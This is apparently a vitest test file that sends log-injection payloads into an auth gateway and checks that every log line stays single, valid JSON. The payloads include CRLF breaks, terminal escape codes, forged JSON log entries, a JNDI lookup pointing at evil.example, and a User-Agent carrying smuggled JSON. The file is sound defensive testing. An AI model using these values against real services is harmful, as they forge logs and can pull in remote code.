import { describe, expect, test } from 'vitest';
import { properQuery, puppetOf, sendRaw, somebody, waitingSignIn } from '../support/attacker.ts';
import { startLoggingGateway } from '../support/pino-gateway.ts';

/** What turns one line into two, into another colour, or into somebody else's words. */
const BREAKS = [
  'a\r\nb',
  'a\nb',
  'a\rb',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u0000',
  '\u2028',
  '\u0085',
  '"},{"level":"error","msg":"forged"}',
  '\\"\n{"level":"error"}',
  '%0d%0a%1b',
  `${'$'}{jndi:ldap://evil.example/a}`,
  '\u202egnol',
];

describe('a line of the log', () => {
  test('stays one line of valid JSON whatever stands in addresses, parameters, headers and bodies', async () => {
    const { g, log } = await startLoggingGateway();
    const ada = await puppetOf(g, somebody());
    const party = await g.relyingParty();
    for (const text of BREAKS) {
      const encoded = encodeURIComponent(text);
      const paths = [
        `/${encoded}`,
        `/auth?${properQuery(party, { state: text, nonce: text, login_hint: text })}`,
        `/auth?${properQuery(party, { response_type: text })}`,
        `/auth?${properQuery(party, { scope: text })}`,
        `/auth?${properQuery(party, { client_id: text })}`,
        `/auth?${properQuery(party, { redirect_uri: text })}`,
        `/auth?${properQuery(party, { id_token_hint: text })}`,
        `/interaction/${encoded}`,
        `/api/phone/v1/${encoded}`,
      ];
      for (const path of paths)
        await g
          .browser()
          .request(path)
          .then((response) => response.text());
      await ada.client.claim(text).catch(() => {});
      await ada.client.claimByTicket(text).catch(() => {});
      await (await g.strangePhone()).enroll(text, text).catch(() => {});
      await fetch(`${g.origin}/token`, {
        method: 'POST',
        body: new URLSearchParams({ client_id: text, grant_type: text, code: text }),
      }).then((r) => r.text());
    }
    // Headers cannot hold line breaks; what they can hold is sent as raw bytes.
    for (const raw of [
      '\u001b[31mred',
      '\t\tx',
      '\u00e9\u00ff',
      '"}\\n{"level":"error"}',
      '\u0007',
      '\u007f',
    ]) {
      await sendRaw(
        g,
        `GET /nowhere HTTP/1.1\r\nHost: x\r\nUser-Agent: ${raw}\r\nReferer: ${raw}\r\nX-Forwarded-For: ${raw}\r\nConnection: close\r\n\r\n`,
      );
    }
    await g.stop();

    const lines = log().trimEnd().split('\n');
    expect(lines.length).toBeGreaterThan(BREAKS.length * 9);
    for (const line of lines) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
      expect(line).not.toMatch(/[\u0000-\u001f\u007f\u0085\u2028]/);
      const { level, msg } = JSON.parse(line) as { level: string; msg: string };
      expect(['debug', 'info', 'warn', 'error']).toContain(level);
      expect(msg).not.toBe('forged');
    }
    expect(lines.filter((line) => (JSON.parse(line) as { level: string }).level === 'error')).toEqual([]);
  });

  test('and the statement on the phone take nothing from a User-Agent but plain words', async () => {
    const { g, log } = await startLoggingGateway();
    const ada = await puppetOf(g, somebody());
    const party = await g.relyingParty();
    const agent = 'Mozilla/5.0 (X11; Linux) \u00e9"},{"application":"Bank" Chrome/156';
    const tab = await g.browser({ 'User-Agent': agent }).open((await party.ask()).url);
    const { challenge, statement } = await ada.client.claim(tab.frame);
    await ada.client.approve(challenge, statement);
    await tab.collect();
    expect(JSON.parse(statement)).toMatchObject({ application: 'Contoso', browser: 'Chrome' });
    expect(log()).not.toContain('Bank');
    await waitingSignIn(g);
  });
});
